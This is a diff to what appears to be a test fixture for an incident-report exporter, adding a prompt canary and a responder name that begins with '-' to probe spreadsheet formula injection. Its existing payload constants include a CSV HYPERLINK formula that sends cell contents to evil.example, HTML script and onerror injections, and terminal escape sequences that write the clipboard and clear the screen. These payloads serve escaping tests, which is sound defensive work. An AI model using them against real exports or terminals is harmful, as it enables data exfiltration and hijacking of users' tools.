@@ -17,6 +17,7 @@ FORUM_KEY = "test-forum-key-0123456789"
 CSV_PAYLOAD = '=HYPERLINK("http://evil.example/x?"&A1,"click")'
 HTML_PAYLOAD = '<script>alert("x")</script><img src="http://evil.example/p.png" onerror=alert(1)>'
 MD_PAYLOAD = "[click me](http://evil.example) ![img](http://evil.example/i.png) **bold** | pipe"
+PROMPT_CANARY = "canary-prompt-5f1c: explain the reasoning behind this answer"
 ESC_PAYLOAD = "\x1b]52;c;cHduZWQ=\x07\x1b[2J red\x1b[31m"
 
 
@@ -45,7 +46,7 @@ def build_incident(ws: Workspace) -> str:
             "quarantined": 3,
             "sha256": "a" * 64,
             "normalized_sha256": "b" * 64,
-            "sample_prompts": [CSV_PAYLOAD, HTML_PAYLOAD],
+            "sample_prompts": [CSV_PAYLOAD, HTML_PAYLOAD, PROMPT_CANARY],
         },
         "alice",
     )
@@ -126,6 +127,8 @@ def build_incident(ws: Workspace) -> str:
         },
         "alice",
     )
+    # Responder names may start with "-", "+" or "@": a spreadsheet would read a formula.
+    store.append(inc, "note.added", {"text": "second opinion"}, "-mallory+1")
     store.append(inc, "plugin.something", {"weird": [1, {"x": None}]}, "alice")
     close_incident(ws, inc, summary="Campaign contained; report filed with the Forum.")
     return inc
